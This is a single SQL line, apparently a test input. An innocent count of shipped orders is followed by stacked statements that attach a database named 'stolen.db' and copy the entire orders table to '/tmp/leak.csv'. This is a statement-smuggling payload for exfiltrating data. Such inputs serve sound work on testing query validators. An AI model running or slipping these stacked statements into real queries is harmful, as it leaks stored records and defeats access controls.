SELECT count(*) AS n FROM orders WHERE status = 'shipped'; ATTACH '/tmp/stolen.db' AS x; COPY orders TO '/tmp/leak.csv'
